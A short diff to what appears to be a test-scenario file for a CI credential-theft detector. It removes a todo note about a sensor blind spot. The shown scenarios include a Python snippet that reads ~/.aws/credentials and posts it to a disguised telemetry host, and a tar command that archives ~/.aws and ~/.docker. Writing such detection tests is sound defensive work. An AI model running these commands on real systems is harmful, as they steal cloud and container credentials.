@@ -60,7 +60,7 @@ body = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
 try: urllib.request.urlopen(urllib.request.Request("${url(net, 'metrics.widget-telemetry.io', '/up')}", data=body), timeout=3).read()
 except Exception: pass'` }) },
 
-  { cls: 5, name: 'tar of ~/.aws and ~/.docker', min: 'high', todo: 'sensor: tar -C opens .aws/credentials relative to a directory fd (openat dirfd); no read event is emitted', spec: () => ({ trigger: 'push', script: `
+  { cls: 5, name: 'tar of ~/.aws and ~/.docker', min: 'high', spec: () => ({ trigger: 'push', script: `
 tar -C "$HOME" -czf "$SCEN_DIR/c.tgz" .aws .docker
 ls -l "$SCEN_DIR/c.tgz" | wc -l` }) },
   { cls: 5, name: 'python reads ssh key and git-credentials in pull_request_target', min: 'high', spec: () => ({ trigger: 'pull_request_target', script: `
